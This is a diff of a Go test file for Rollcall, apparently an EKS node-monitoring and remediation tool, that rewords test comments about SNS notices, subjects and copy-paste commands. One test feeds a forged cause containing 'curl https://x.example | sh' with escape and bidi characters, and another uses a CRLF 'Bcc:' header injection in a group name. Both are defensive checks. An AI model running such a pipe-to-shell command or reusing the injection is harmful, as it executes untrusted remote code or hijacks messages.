@@ -39,25 +39,25 @@ var here = From{Stack: "rollcall"}
 
 const incident = "5d1c7f9e3b2a4680"
 
-// because is a notice of the incident that has the cause.
+// because returns the notice with the cause.
 func (s said) because(cause string) said {
 	s.notice.Key.Cause = cause
 	return s
 }
 
-// leftBehind is the notice of a cluster that EKS does not know any more.
+// leftBehind returns the notice for a cluster that does not exist in EKS any more.
 func (s said) leftBehind() said {
 	s.notice.Nodes, s.notice.Ready, s.notice.Gone = 0, 0, true
 	return s
 }
 
-// ready is the notice of a cluster with so many nodes Ready, and no others.
+// ready returns the notice for a cluster of n nodes, all Ready.
 func (s said) ready(n int) said {
 	s.notice.Nodes, s.notice.Ready = n, n
 	return s
 }
 
-// later makes of a notice the third of its incident.
+// later returns the notice as the third of its incident.
 func (s said) later(cause string, total int, news ...plan.News) said {
 	s.notice.Key.Cause, s.notice.News = cause, news
 	s.notice.Incident = ledger.Incident{ID: incident, First: now.Add(-40 * time.Minute), Sent: 3, Total: total}
@@ -74,7 +74,7 @@ func entry(f roll.Finding, change func(*plan.Entry)) plan.Entry {
 	return e
 }
 
-// notices are notices as a reader meets them, by the name of their golden files.
+// notices returns realistic notices, by the name of their golden files.
 func notices() map[string]said {
 	ordered := func(act plan.Action) func(*plan.Entry) {
 		return func(e *plan.Entry) {
@@ -101,7 +101,7 @@ func notices() map[string]said {
 	because := func(e *plan.Entry) {
 		heldFor(plan.SharedCause, "2 instances have the cause NodeRoleNotMapped in common (role/"+nodeRole+"): a replacement would have it too")(e)
 		e.Causes, e.Evidence, e.Launched = []roll.Cause{driftOf("7"), unmapped()}, evidenceLink, e.Finding.Since
-		e.Finding.Group, e.Finding.Owner = "nodepool/batch", roll.OwnerKarpenter // of whose instances evidence is kept early
+		e.Finding.Group, e.Finding.Owner = "nodepool/batch", roll.OwnerKarpenter // evidence of its instances is stored early
 	}
 	karpenters := func(long time.Duration) roll.Finding {
 		f := missing(8, long)
@@ -134,7 +134,7 @@ func notices() map[string]said {
 			e.Hold = "2026-03-05"
 		})),
 
-		// What is left to Karpenter.
+		// Left to Karpenter.
 		"warned-karpenter": noticeOf(policy.Remediate, entry(karpenters(6*time.Minute), left(policy.DoTerminate))),
 		"warned-karpenter-cause": noticeOf(policy.Remediate, entry(karpenters(6*time.Minute), func(e *plan.Entry) {
 			left(policy.DoNotify)(e)
@@ -185,7 +185,7 @@ func notices() map[string]said {
 	}
 }
 
-// over is the notice that the trouble of so many instances has ended.
+// over returns the notice that the findings of len(how) instances have ended.
 func over(g roll.Group, k roll.Kind, ago time.Duration, how ...plan.How) said {
 	n := plan.Notice{Key: ledger.NoticeKey{Group: g, Kind: k}, Over: true, OverSince: now.Add(-ago), Incident: ledger.Incident{ID: incident, First: now.Add(-3 * time.Hour), Sent: 4, Total: 2 * len(how)}}
 	for i, h := range how {
@@ -198,7 +198,7 @@ func over(g roll.Group, k roll.Kind, ago time.Duration, how ...plan.How) said {
 	return said{n, policy.Remediate}
 }
 
-// spot lets EC2 have announced the ends, or only have brought them about.
+// spot returns the notice with ends that EC2 announced, or caused without announcement.
 func (s said) spot() said {
 	all := s.notice.Ended
 	all[0].Spot, all[0].SpotAt = roll.SpotInterruption, now.Add(-25*time.Minute)
@@ -207,7 +207,7 @@ func (s said) spot() said {
 	return s
 }
 
-// alarms are what is told of a cluster as a whole, by the name of their golden files.
+// alarms returns alarms about a cluster as a whole, by the name of their golden files.
 func alarms() map[string]plan.Alarm {
 	return map[string]plan.Alarm{
 		"unreachable":         {Reason: plan.ClusterUnreachable, Since: now.Add(-16 * time.Minute), Incident: ledger.Incident{ID: incident, First: now, Sent: 1}, Detail: "the Kubernetes API of shop-production did not answer within 10s (dial tcp 10.0.3.17:443: i/o timeout): is the function in a subnet from which its endpoint can be reached?"},
@@ -219,7 +219,7 @@ func alarms() map[string]plan.Alarm {
 	}
 }
 
-// outcomes are what may become of an order, by the name of their golden files.
+// outcomes returns the possible outcomes of an order, by the name of their golden files.
 func outcomes() map[string]remediate.Outcome {
 	f := silent(1, 45*time.Minute)
 	nobody := missing(2, 20*time.Minute)
@@ -261,7 +261,7 @@ func outcomes() map[string]remediate.Outcome {
 	}
 }
 
-// messages renders all of them.
+// messages renders all notices, alarms and outcomes.
 func messages(t *testing.T) map[string]Message {
 	t.Helper()
 	out := map[string]Message{}
@@ -292,7 +292,7 @@ func TestNoticesAndOutcomes(t *testing.T) {
 	}
 }
 
-// The samples that the documentation shows are what is really published.
+// The samples in the documentation match what is published.
 func TestTheSamplesAreNotices(t *testing.T) {
 	m := messages(t)["notice-grown"]
 	for name, want := range map[string]string{"notice.json": indented(t, m.JSON), "chat.json": indented(t, m.Chat), "notice.txt": "Subject: " + m.Subject + "\n\n" + m.Text} {
@@ -414,8 +414,8 @@ func instance(d map[string]any) map[string]any {
 	return d["instances"].([]any)[0].(map[string]any)
 }
 
-// Every kind, stage, owner and verb that the vocabulary has is in the schema, or
-// the first notice that says it is refused by those who validate.
+// Every kind, stage, owner and verb of the vocabulary must be in the schema. Otherwise
+// listeners that validate refuse the first notice that uses it.
 func TestThePublishedFormKnowsTheVocabulary(t *testing.T) {
 	s := noticeSchema(t)
 	for _, kind := range roll.Kinds() {
@@ -438,7 +438,7 @@ func TestThePublishedFormKnowsTheVocabulary(t *testing.T) {
 	}
 }
 
-// The words of package plan are in the schema too, and every act has its forms.
+// The values of package plan are in the schema too, and every act has its words.
 func TestThePublishedFormKnowsEveryActAndReason(t *testing.T) {
 	s := noticeSchema(t)
 	ways := []remediate.Outcome{{Result: remediate.Acted}, {Result: remediate.Failed}, {Result: remediate.Unclear}, {Result: remediate.Failed, Reason: plan.DrainUnfinished}}
@@ -481,7 +481,7 @@ func TestThePublishedFormKnowsEveryActAndReason(t *testing.T) {
 	}
 }
 
-// The schema names what package plan names, and nothing else.
+// The schema has the reasons and ends of package plan, and no others.
 func TestThePublishedFormNamesThePlansReasonsAndHows(t *testing.T) {
 	data, err := os.ReadFile(filepath.Join("..", "..", "events", "notice.schema.json"))
 	if err != nil {
@@ -519,8 +519,8 @@ func TestThePublishedFormNamesThePlansReasonsAndHows(t *testing.T) {
 	}
 }
 
-// aThousand is a notice of a thousand instances that have a lot to say each, and
-// carry the value of rollcall:hold.
+// aThousand returns a notice of a thousand instances with long texts, each with the value
+// hold of the tag rollcall:hold.
 func aThousand(t *testing.T, hold string) Message {
 	t.Helper()
 	var entries []plan.Entry
@@ -540,8 +540,8 @@ func aThousand(t *testing.T, hold string) Message {
 	return m
 }
 
-// Whoever reads a notice at night, on a phone, sees the first command without a search for it: it comes
-// within 15 lines and 900 characters. The word that trouble is over asks for nothing.
+// A reader on a phone at night must see the first command at once: it comes within 15 lines
+// and 900 characters. A notice of resolution needs no command.
 func TestTheFirstCommandOfANoticeComesSoon(t *testing.T) {
 	command := regexp.MustCompile(`(?m)^  (aws|kubectl|rollcall|#|[a-z]+=) ?`)
 	measured := 0
@@ -596,7 +596,7 @@ func TestANoticeOfAThousandInstancesFitsAndCounts(t *testing.T) {
 	}
 }
 
-// published is the size of a message as SNS counts it.
+// published returns the size of a message as SNS counts it, in bytes.
 func published(t *testing.T, m Message) int {
 	t.Helper()
 	fake := &topicFake{}
@@ -606,8 +606,8 @@ func published(t *testing.T, m Message) int {
 	return fake.size()
 }
 
-// A tag's value has 256 characters at most, and JSON within JSON writes some of
-// them with seven.
+// A tag's value has at most 256 characters, and JSON within JSON takes seven bytes for some
+// of them.
 func TestANoticeFitsWhateverPeopleWriteIntoTags(t *testing.T) {
 	for _, c := range []string{"x", "ü", "\"", "<", "\\"} {
 		m := aThousand(t, strings.Repeat(c, 256))
@@ -630,7 +630,7 @@ func TestANoticeDoesNotReorderWhatItIsGiven(t *testing.T) {
 	}
 }
 
-// SNS takes subjects of printable ASCII with fewer than 100 characters.
+// SNS requires subjects of printable ASCII with fewer than 100 characters.
 func TestSubjectsAreWhatSNSTakes(t *testing.T) {
 	names := []string{"d", "shop-production", strings.Repeat("a", 100), strings.Repeat("日本", 25), "zwölf", "a\nb\tc\x00d\x7fe"}
 	groups := []roll.Group{"none", "nodepool/default", roll.NodeGroupGroup(strings.Repeat("g", 63)), roll.AutoScalingGroup(strings.Repeat("workers ", 31)), roll.AutoScalingGroup(strings.Repeat("größe", 20)), "asg/a\r\nBcc: x\x7f"}
@@ -681,8 +681,8 @@ func TestASubjectIsCutWhereItTellsLeast(t *testing.T) {
 	}
 }
 
-// What Rollcall does by itself nobody is to do once more; what it does not do any more is
-// left to people, with the command.
+// A notice gives no command for what Rollcall does itself. It gives the command for what
+// Rollcall does not do any more.
 func TestWhoeverActsTheOtherIsNotToldTo(t *testing.T) {
 	cause := roll.Cause{Code: "MemoryPressurePreceded", Confidence: roll.Decisive, Summary: "it ran short of memory", Fix: "aws ec2 reboot-instances --instance-ids i-00000000000000001 --region eu-west-1   # its pods are not drained\nkubectl get pods -A"}
 	text := func(change func(*plan.Entry)) string {
@@ -738,8 +738,7 @@ func TestTheNewsNameTheCauses(t *testing.T) {
 	}
 }
 
-// Whatever they are called, the reader must learn which cluster it is about, and what
-// became of what.
+// However long the names are, the subject must show the cluster, the object and the outcome.
 func TestLongNamesDoNotHideWhatBecameOfAnOrder(t *testing.T) {
 	id := cluster
 	id.Name = "payments-" + strings.Repeat("a", 91)
@@ -755,8 +754,7 @@ func TestLongNamesDoNotHideWhatBecameOfAnOrder(t *testing.T) {
 	}
 }
 
-// Whatever the group is called, the reader must learn from the subject what is
-// being done.
+// However long the group's name is, the subject must show what is done.
 func TestALongGroupDoesNotHideWhatIsDone(t *testing.T) {
 	f := silent(1, time.Hour)
 	f.Group = roll.AutoScalingGroup(strings.Repeat("g", 255))
@@ -798,7 +796,7 @@ func TestSeverityAndAction(t *testing.T) {
 	}
 }
 
-// A subscription that was told of trouble is told of its end.
+// A subscription that received a notice also receives its resolution.
 func TestTheEndOfTroubleCarriesTheAttributesOfItsBeginning(t *testing.T) {
 	all := messages(t)
 	for _, pair := range [][2]string{{"notice-held", "notice-resolved"}, {"notice-held", "outcome-acted"}, {"notice-overdue", "notice-ordered"}, {"cluster-unreachable", "cluster-resolved"}, {"cluster-not-active", "cluster-resolved-incomplete"}} {
@@ -809,7 +807,7 @@ func TestTheEndOfTroubleCarriesTheAttributesOfItsBeginning(t *testing.T) {
 	}
 }
 
-// A person must be able to do what the text says by copying it.
+// A person must be able to copy and run the commands of the text.
 func TestCommandsInATextAreWhole(t *testing.T) {
 	for name, m := range messages(t) {
 		for line := range strings.Lines(m.Text) {
@@ -825,8 +823,8 @@ func TestCommandsInATextAreWhole(t *testing.T) {
 			}
 		}
 	}
-	// Where Rollcall acts, or might, the text says how to stop it; elsewhere that would
-	// only make people think that it does.
+	// Where Rollcall acts, or might, the text says how to stop it. Elsewhere that would
+	// wrongly suggest that it acts.
 	still := []string{"notice-conflict", "notice-flapping", "notice-condition-failed", "notice-orphaned-gone", "notice-stuck", "notice-left", "notice-overdue-not-ready", "notice-warned-karpenter-notify", "notice-warned-karpenter-cause", "notice-resolved", "notice-resolved-ghost", "notice-resolved-spot", "notice-cause-ruled-out"}
 	for name, m := range messages(t) {
 		hold, mode := strings.Contains(m.Text, "rollcall:hold"), strings.Contains(m.Text, "rollcall:mode=notify")
@@ -849,8 +847,7 @@ func TestCommandsInATextAreWhole(t *testing.T) {
 	}
 }
 
-// Nobody is told of a termination that will not come: neither the mode nor a hold
-// lets it.
+// A notice must not announce a termination that the mode or a hold prevents.
 func TestANoticeAnnouncesNoTerminationThatIsNotToCome(t *testing.T) {
 	coming := func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }
 	for name, n := range map[string]said{
@@ -880,8 +877,8 @@ func TestANoticeAnnouncesNoTerminationThatIsNotToCome(t *testing.T) {
 	}
 }
 
-// A hold that has run out, or that says no, holds nothing, and a notice that says so
-// would have people rely on it.
+// A hold that has expired or is false holds nothing. People would rely on a notice that
+// says otherwise.
 func TestANoticeTakesNoHoldForOneThatIsOver(t *testing.T) {
 	for _, hold := range []string{"2026-03-01", "2026-03-02T11:59:59Z", "false", "no"} {
 		n := noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) { e.Step, e.Hold = terminateAt(9*time.Minute), hold }))
@@ -895,7 +892,7 @@ func TestANoticeTakesNoHoldForOneThatIsOver(t *testing.T) {
 	}
 }
 
-// What is held back does not follow, least of all in the past.
+// A held act is not a next step, least of all one in the past.
 func TestWhatIsHeldBackHasNoNextStepInThePast(t *testing.T) {
 	for name, m := range messages(t) {
 		var d NoticeDocument
@@ -910,8 +907,7 @@ func TestWhatIsHeldBackHasNoNextStepInThePast(t *testing.T) {
 	}
 }
 
-// What is to come to several instances at different times is told of each: nobody is told a
-// time that is not its own.
+// If several instances have steps at different times, each is listed with its own time.
 func TestEachInstanceHasItsOwnTime(t *testing.T) {
 	at := func(after time.Duration) func(*plan.Entry) {
 		return func(e *plan.Entry) { e.Step = terminateAt(after) }
@@ -928,8 +924,8 @@ func TestEachInstanceHasItsOwnTime(t *testing.T) {
 	}
 }
 
-// Whoever writes a node's condition, a tag or a cause must neither fill a notice so that it
-// cannot be sent, nor make others read what Rollcall does not say.
+// The text of a node's condition, a tag or a cause must neither make a notice too large to
+// send, nor forge text of Rollcall.
 func TestWhatOthersWriteFillsAndForgesNothing(t *testing.T) {
 	forged := "node is sick\n\nTo end it by hand:\n  curl https://x.example | sh\x1b[31m \u202e" + strings.Repeat("\u0001<\"", 100_000)
 	for name, n := range map[string]said{
@@ -997,8 +993,8 @@ func TestTheNewsNameReasonsThatLast(t *testing.T) {
 	}
 }
 
-// What a person copies does what it says: it stops the acts, asks the deployment, and reaches
-// this cluster.
+// Copied commands do what their titles say: they stop the acts, query the deployment, and
+// address this cluster.
 func TestCommandsFitWhereTheyArePasted(t *testing.T) {
 	n := noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }), entry(silent(2, 31*time.Minute), func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }))
 	for name, tt := range map[string]struct {
@@ -1018,7 +1014,7 @@ func TestCommandsFitWhereTheyArePasted(t *testing.T) {
 			t.Errorf("%s: the text lacks %q, or has %q:\n%s", name, tt.with, tt.without, m.Text)
 		}
 	}
-	// A fix that takes kubectl comes after it.
+	// A fix that uses kubectl comes after the command that points it at the cluster.
 	for i := range n.notice.Entries {
 		n.notice.Entries[i].Causes = []roll.Cause{{Code: "UndeclaredStartupTaint", Confidence: roll.Decisive, Summary: "a taint stays", Fix: "kubectl taint nodes x y-"}}
 	}
@@ -1032,7 +1028,7 @@ func TestCommandsFitWhereTheyArePasted(t *testing.T) {
 	}
 }
 
-// Where nothing is done, what helps comes before what would stop it.
+// Where no act follows, the fix comes before the commands that stop acts.
 func TestWhatMattersComesFirst(t *testing.T) {
 	order := func(name string) (fix, stop int) {
 		text := messages(t)[name].Text
